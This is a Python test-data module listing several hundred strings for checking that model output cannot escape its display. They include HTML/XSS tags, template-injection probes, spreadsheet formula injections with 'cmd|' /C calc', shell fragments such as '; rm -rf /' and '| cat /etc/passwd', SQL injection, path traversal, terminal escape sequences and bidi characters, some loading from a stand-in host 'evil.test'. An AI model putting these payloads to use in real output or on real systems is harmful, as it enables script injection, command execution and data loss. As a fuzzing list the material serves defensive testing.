"""Texts that a model may write, or be made to write, to get out of the place where they are shown. All are data."""

from __future__ import annotations

_TAGS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x0d\x0a>alert(1)</script>", "<script/x>alert(1)</script>",
    "</script ><img src=x onerror=alert(1)>", "<!--<script>alert(1)", "<!--<script>--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src=x onerror=alert(1)>", "<img src=https://evil.test/p.png>", "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>", "`><img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img srcset='https://evil.test/p 1x'>", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,x'/>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject>", "<math><mi xlink:href='javascript:alert(1)'>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<frameset onload=alert(1)>",
    "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x>",
    "<link rel=prefetch href=//evil.test/>", "<link rel=icon href=//evil.test/i>", "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<meta http-equiv=Content-Security-Policy content=''>", "<style>*{background:url(//evil.test/)}</style>",
    "</style><script>alert(1)</script>", "<style>@import '//evil.test/x.css';</style>", "<div style='background:url(//evil.test)'>",
    "<div style=width:expression(alert(1))>", "<a href='javascript:alert(1)'>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=vbscript:msgbox(1)>x</a>", "<a ping=//evil.test href=#>x</a>",
    "<form action=//evil.test><input type=submit>", "<form><button formaction=javascript:alert(1)>x", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)>", "<video poster=//evil.test/p>", "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<title></title><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "<table><td background=//evil.test/b>", "</td></tr></table></main></body></html><h1>gone</h1>",
    "</dialog><dialog open>pay here</dialog>", "<portal src=//evil.test>", "<slot onslotchange=alert(1)>", "<x contenteditable onblur=alert(1)>x",
    "<x onclick=alert(1)>click", "<x onpointerover=alert(1) style=position:fixed;inset:0>", "<dialog open onclose=alert(1)>",
    "<input type=hidden accesskey=X onclick=alert(1)>", "<b id=report-data>{}</b>", "<form id=controls>", "<a id=detail name=detail>",
    "<img name=getElementById>", "<script type=importmap>{}</script>", "<script type=speculationrules>{}</script>",
    "<script type=application/json id=report-data>{}</script>", "<popover popover=auto>", "<fencedframe src=//evil.test>",
)  # fmt: skip
_SYNTAX = (
    "{{ 7*7 }}", "{{config}}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% for x in [1] %}x{% endfor %}", "{# comment #}",
    "{{ self._TemplateReference__context }}", "${7*7}", "${alert(1)}", "<%= 7*7 %>", "<% alert(1) %>", "#{7*7}", "*{7*7}", "@(7*7)",
    "[[${7*7}]]", "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "ng-app ng-csp", "v-html=alert(1)",
    "`${alert(1)}`", "';alert(1);//", "\";alert(1);//", "\\';alert(1);//", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;script&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "]]>&lt;&amp;'\"", "--><script>alert(1)</script>", "*/alert(1)/*", "//alert(1)", "</", "<", ">", "&", "\"", "'", "`", "\\", "\\\\", "{}", "[]",
    "null", "undefined", "NaN", "true", "__proto__", "constructor", "toString", "hasOwnProperty", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "java\x00script:alert(1)", " javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    "file:///etc/passwd", "https://evil.test/?q=", "//evil.test/x", "[link](javascript:alert(1))", "![image](https://evil.test/p.png)",
    "[red]markup[/red]", "[bold on red]x[/]", "[link=https://evil.test]x[/link]", "%s %d %n %x", "%(secret)s", "{0.__class__}", "$(id)", "`id`",
    "; rm -rf /", "| cat /etc/passwd", "&& id", "> /tmp/x", "' OR '1'='1", "\"; DROP TABLE runs; --", "../../../../etc/passwd", "CON", "NUL",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.test\",\"x\")", "=IMPORTXML(\"https://evil.test\",\"//a\")", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "=\"a\"\"b\"", "a,b\"c\nd", "-", "+", "=", "@", "−1", "＝1+1",
)  # fmt: skip
_CHARACTERS = (
    "\x00", "a\x00b", "\x01\x02\x03", "\x07bell", "\x08\x08\x08back", "\x0b\x0c", "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07",
    "\x1b]8;;https://evil.test\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;aGk=\x07", "\x1b[6n", "\x1bPq#0\x1b\\", "\x9b31mred", "\x9d0;title\x9c", "\x7f\x80\x85\x9f",
    "\x1b[", "\x1b", "\r\nSet-Cookie: x=1", "one\r\ntwo\rthree\nfour", "\u2028line\u2029paragraph", "\u202egnp.exe", "\u202d\u202e\u202b\u202a\u202c",
    "\u2066\u2067\u2068\u2069", "\u200e\u200f\u061c", "a\u200bb\u200cc\u200dd\ufeffe", "\u00ad\u2060\u180e", "\ud800", "\udfff lone", "\ud83d\ude00 as two",
    "\ufffe\uffff", "\U000e0041\U000e0042 tags", "\U0010ffff", "Z\u0351\u0353\u036f" * 40, "\u0301" * 500, "ﷺ" * 200, "𒐫" * 100, "👩‍👩‍👧‍👦" * 50,
    "العربية اختبار", "עברית", "ไทย", "日本語テキスト", "e\u0301 é", "ſ K", "İi", "\u1680\u2000\u3000 spaces", "", " ", "\n\n\n", "\t\t",
)  # fmt: skip
_SIZES = (
    "x" * 100_000,
    "word " * 20_000,
    "<" * 50_000,
    "\n" * 10_000,
    "&lt;" * 20_000,
    "\u202e" * 5_000,
    "\x1b[" * 10_000,
    "a" * 5_000 + "<script>alert(1)</script>",
)

TEXTS = [*_TAGS, *_SYNTAX, *_FORMULAS, *_CHARACTERS, *_SIZES]
"""At least 200 texts, all different."""

HUGE = "<b>" + "h" * 10_000_000
"""A line of ten megabytes."""
